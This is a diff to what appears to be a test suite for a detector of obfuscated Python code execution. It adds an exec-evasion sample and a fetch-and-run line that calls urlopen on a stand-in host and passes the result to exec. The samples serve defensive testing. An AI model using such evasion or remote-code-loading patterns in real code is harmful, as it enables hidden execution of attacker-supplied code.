@@ -41,6 +41,7 @@ test.each([
   ['the call of a function', 'exec.__call__(d(x))'],
   ['a class that is put together', 'A = type("A", (), {"run": lambda self, code: exec(code)})\nA().run(d(x))'],
   ['a key of a dict of names', 't = {"x": "exec"}\nimport builtins\ngetattr(builtins, t["x"])(d(x))'],
+  ['names that are taken out of a module one by one', 'import builtins as b\nf = [b.__dict__[n] for n in ("print", "exec")]\nf[1](d(x))'],
   ['exclusive-or as a function', 'exec(bytes(map(operator.xor, x, k)))'],
   ['letters that are taken off', 'import builtins\ngetattr(builtins, "__exec__".strip("_"))(d(x))'],
 ])('what is decoded reaches exec by way of %s', async (_, text) => {
@@ -64,6 +65,11 @@ test.each([
   ['an object that is never called', 'class A:\n    def __call__(self, x): exec(d(x))\na = A()'],
 ])('%s waits for it', async (_, text) => {
   expect(await runIn(text)).toEqual(['latent']);
+});
+
+test('a module within a package is imported by its name with a list of what is wanted', async () => {
+  const { facts } = await read('exec(__import__("urllib.request", fromlist=["x"]).urlopen("https://i.example.invalid").read())\n');
+  expect(facts?.flows({ from: 'network', to: 'exec' })).not.toEqual([]);
 });
 
 test('a connection and a shell are tied together by methods that a function is given', async () => {
